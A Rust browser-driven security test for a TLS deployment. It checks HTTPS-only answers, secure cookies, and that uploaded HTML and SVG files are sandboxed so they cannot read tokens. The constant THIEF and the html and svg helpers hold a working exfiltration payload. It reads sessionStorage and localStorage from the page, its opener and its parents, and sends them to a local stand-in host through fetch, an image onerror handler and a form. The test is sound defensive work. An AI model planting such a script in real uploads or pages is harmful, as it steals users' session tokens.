//! The whole deployment by HTTPS, in a real browser; and what users upload, which must never read a token.
#![cfg(not(target_arch = "wasm32"))]
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::io::{BufRead as _, BufReader, Write as _};
use std::net::{TcpListener, TcpStream};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use serde_json::{Value, json};
use xtask::harness::api::{Api, client};
use xtask::harness::browser::{Browser, Window};
use xtask::harness::local::Local;
use xtask::harness::page::Page;
use xtask::harness::{HarnessError, Result, wait_for};

const PATIENCE: Duration = Duration::from_secs(20);

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_deployment_by_https_and_uploads_that_would_steal() {
    let local = Local::start_as("secure", &["--tls"]).expect("the deployment starts");
    let pin = std::fs::read_to_string(local.dir.join("tls/ca.spki-sha256")).unwrap();
    let browser = Browser::start_trusting(Window::default(), Some(&pin))
        .await
        .expect("the browser starts");
    let page = browser.page();
    let outcome = tour(&local, &browser, &page).await;
    let picture = local.dir.join("failed.png");
    if outcome.is_err() {
        let _ = page.picture(&picture).await;
    }
    browser.quit().await.expect("the browser ends");
    if let Err(error) = outcome {
        panic!("{error}\n(picture: {})", picture.display());
    }
}

async fn tour(local: &Local, browser: &Browser, page: &Page) -> Result<()> {
    all_answers_are_https(local).await?;
    page.goto(&local.ready.console).await?;
    page.fill("User", &local.ready.user).await?;
    page.fill("Password", &local.ready.password).await?;
    page.click("button", "Sign in").await?;
    page.find("heading", "Overview").await?;
    page.sees("east-2").await?;
    page.click_part("link", "Grid").await?;
    page.find("heading", "Grid").await?;
    page.sees("east-r01").await?;
    let asked = eval(
        page,
        "return performance.getEntriesByType('resource').map(e => e.name).concat(location.href)",
    )
    .await?;
    let asked: Vec<String> = serde_json::from_value(asked)?;
    let plain: Vec<_> = asked
        .iter()
        .filter(|url| url.starts_with("http:"))
        .collect();
    assert!(plain.is_empty(), "{plain:?}");
    assert!(asked.len() > 5, "{asked:?}");
    let policy = policy_of(local).await?;
    for server in &local.ready.servers {
        assert!(policy.contains(&server.url), "{policy}");
    }
    nothing_is_stolen(local, browser, page).await
}

async fn eval(page: &Page, script: &str) -> Result<Value> {
    page.eval(script, Vec::new()).await
}

/// Servers and load balancer answer those who trust the root, by HTTPS alone.
async fn all_answers_are_https(local: &Local) -> Result<()> {
    let trusting = client(local.ready.ca.as_deref())?.build()?;
    let stranger = client(None)?.build()?;
    let all = local.ready.servers.iter().map(|server| &server.url);
    for url in all.chain([&local.ready.load_balancer]) {
        assert!(url.starts_with("https://"), "{url}");
        let answer = trusting.get(format!("{url}/api/v1/server")).send().await?;
        assert_eq!(answer.status(), 200, "{url}");
        if *url == local.ready.load_balancer {
            let cookie = answer.headers()["set-cookie"]
                .to_str()
                .unwrap()
                .to_lowercase();
            assert!(
                cookie.contains("secure") && cookie.contains("httponly"),
                "{cookie}"
            );
        }
        assert!(stranger.get(url).send().await.is_err(), "{url}");
        let plain = url.replace("https://", "http://");
        let plain = trusting.get(plain).send().await;
        assert!(
            plain.is_err() || plain.is_ok_and(|a| a.status() == 400),
            "{url}"
        );
    }
    Ok(())
}

/// The policy of the console's page.
async fn policy_of(local: &Local) -> Result<String> {
    let trusting = client(local.ready.ca.as_deref())?.build()?;
    let answer = trusting.get(&local.ready.console).send().await?;
    let policy = answer.headers()["content-security-policy"].to_str();
    Ok(policy.map_err(HarnessError::new)?.to_owned())
}

/// What an upload would do if it could: tell everything that it can reach to a host of its author's.
const THIEF: &str = "
    const told = [];
    for (const of of [() => window, () => window.parent, () => window.opener, () => window.top]) {
        for (const kind of ['sessionStorage', 'localStorage']) {
            try { told.push(JSON.stringify(of()[kind])); } catch (e) { told.push('no'); }
        }
    }
    fetch('THERE/stolen?' + encodeURIComponent(told.join()), { mode: 'no-cors' });
    new Image().src = 'THERE/stolen?image';
    document.title = 'stolen';
";

fn html(there: &str) -> String {
    let script = THIEF.replace("THERE", there);
    format!(
        "<!doctype html><title>report</title><p>report</p><script>{script}</script>\
         <img src=x onerror=\"fetch('{there}/stolen?handler', {{ mode: 'no-cors' }})\">\
         <form action='{there}/stolen'><button>Go on</button></form>"
    )
}

fn svg(there: &str) -> String {
    let script = THIEF.replace("THERE", there);
    format!(
        "<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'><script><![CDATA[{script}]]></script>\
         <rect width='9' height='9'/></svg>"
    )
}

async fn nothing_is_stolen(local: &Local, browser: &Browser, page: &Page) -> Result<()> {
    let east = local.server("east-1")?;
    let (user, password) = (&local.ready.user, &local.ready.password);
    let ca = local.ready.ca.as_deref();
    let api = Api::sign_in_trusting(&east.url, user, password, ca).await?;
    let trusting = client(ca)?.build()?;
    let there = There::start()?;
    browser
        .cdp("Browser.setDownloadBehavior", json!({ "behavior": "deny" }))
        .await?;
    let mut sandbox = String::new();
    for (name, content) in [
        ("report.html", html(&there.base)),
        ("plot.svg", svg(&there.base)),
    ] {
        let query = format!("directory=www&name={name}");
        let put = trusting
            .put(format!("{}/api/v1/repository/content?{query}", east.url))
            .bearer_auth(api.token())
            .header("if-none-match", "*")
            .body(content);
        assert_eq!(put.send().await?.status(), 201);
        // Opened as a person would, from the console's own page and origin, which then is its opener.
        let link = one_time(&api, &query).await?;
        page.eval("window.open(arguments[0])", vec![json!(link)])
            .await?;
        wait_for("the download", PATIENCE, || async {
            let again = trusting.get(format!("{}{link}", east.url)).send().await?;
            Ok((again.status() == 404).then_some(()))
        })
        .await?;
        // In a frame of the console's page: the page's policy does not let it in.
        let link = one_time(&api, &query).await?;
        let frame = "window.refused = ''; \
            document.addEventListener('securitypolicyviolation', e => { window.refused = e.effectiveDirective; }); \
            const f = document.createElement('iframe'); f.src = arguments[0]; document.body.append(f);";
        page.eval(frame, vec![json!(link)]).await?;
        wait_for("the policy's refusal", PATIENCE, || async {
            let refused = eval(page, "return window.refused").await?;
            Ok((refused == "frame-src").then_some(()))
        })
        .await?;
        let given = trusting.get(format!("{}{link}", east.url)).send().await?;
        assert_eq!(given.status(), 200, "the frame has not had it");
        let header = |name: &str| given.headers()[name].to_str().unwrap().to_owned();
        assert!(header("content-disposition").starts_with("attachment"));
        sandbox = header("content-security-policy");
    }
    assert_eq!(there.stolen(), Vec::<String>::new());
    let signed_in = eval(page, "return sessionStorage.length > 0").await?;
    assert_eq!(signed_in, json!(true), "there was something to steal");
    the_sandbox_alone_is_enough(&there, &sandbox, page).await
}

async fn one_time(api: &Api, query: &str) -> Result<String> {
    let made = api
        .post(&format!("repository/link?{query}"), json!({}))
        .await?;
    let path = made.body["path"].as_str();
    path.map(str::to_owned)
        .ok_or_else(|| HarnessError(format!("no link: {}", made.body)))
}

/// The same files shown as pages, by a host on whose origin a token lies: with the policy that the server sends nothing
/// of them runs; without it all does, so that this test can fail.
async fn the_sandbox_alone_is_enough(there: &There, policy: &str, page: &Page) -> Result<()> {
    there.serve(policy);
    page.goto(&format!("{}/blank", there.base)).await?;
    eval(page, "sessionStorage.setItem('token', 'SECRET')").await?;
    for name in ["report.html", "plot.svg"] {
        page.goto(&format!("{}/boxed/{name}", there.base)).await?;
        let box_ = eval(
            page,
            "try { sessionStorage.length; return 'open' } catch (e) { return 'closed' }",
        )
        .await?;
        assert_eq!(box_, json!("closed"), "an origin of its own");
        assert_eq!(there.stolen(), Vec::<String>::new(), "{name}");
    }
    for name in ["report.html", "plot.svg"] {
        page.goto(&format!("{}/open/{name}", there.base)).await?;
        wait_for("the thief without a sandbox", PATIENCE, || async {
            let stolen = there.stolen();
            Ok(stolen.iter().any(|s| s.contains("SECRET")).then_some(()))
        })
        .await?;
        there.forget();
    }
    Ok(())
}

/// The thief's host: notes what it is told, and shows the same files with and without a policy.
struct There {
    base: String,
    stolen: Arc<Mutex<Vec<String>>>,
    policy: Arc<Mutex<String>>,
}

impl There {
    fn start() -> Result<Self> {
        let listener = TcpListener::bind("127.0.0.1:0")?;
        let there = Self {
            base: format!("http://{}", listener.local_addr()?),
            stolen: Arc::default(),
            policy: Arc::default(),
        };
        let (base, stolen, policy) = (
            there.base.clone(),
            Arc::clone(&there.stolen),
            Arc::clone(&there.policy),
        );
        // Ends with the test's process.
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                let _ = answer(stream, &base, &stolen, &policy);
            }
        });
        Ok(there)
    }

    fn stolen(&self) -> Vec<String> {
        self.stolen.lock().unwrap().clone()
    }

    fn forget(&self) {
        self.stolen.lock().unwrap().clear();
    }

    fn serve(&self, policy: &str) {
        policy.clone_into(&mut self.policy.lock().unwrap());
    }
}

fn answer(
    mut stream: TcpStream,
    base: &str,
    stolen: &Mutex<Vec<String>>,
    policy: &Mutex<String>,
) -> std::io::Result<()> {
    stream.set_read_timeout(Some(Duration::from_secs(2)))?;
    let mut head = BufReader::new(stream.try_clone()?).lines();
    let first = head.next().transpose()?.unwrap_or_default();
    while head
        .next()
        .transpose()?
        .is_some_and(|line| !line.is_empty())
    {}
    let path = first.split(' ').nth(1).unwrap_or_default().to_owned();
    if path.starts_with("/stolen") {
        stolen.lock().unwrap().push(path.clone());
    }
    let (kind, body) = if path.ends_with(".html") {
        ("text/html", html(base))
    } else if path.ends_with(".svg") {
        ("image/svg+xml", svg(base))
    } else {
        ("text/html", String::new())
    };
    let policy = if path.starts_with("/boxed") {
        format!("content-security-policy: {}\r\n", policy.lock().unwrap())
    } else {
        String::new()
    };
    let length = body.len();
    write!(
        stream,
        "HTTP/1.1 200 OK\r\ncontent-type: {kind}\r\n{policy}content-length: {length}\r\nconnection: close\r\n\r\n{body}"
    )
}
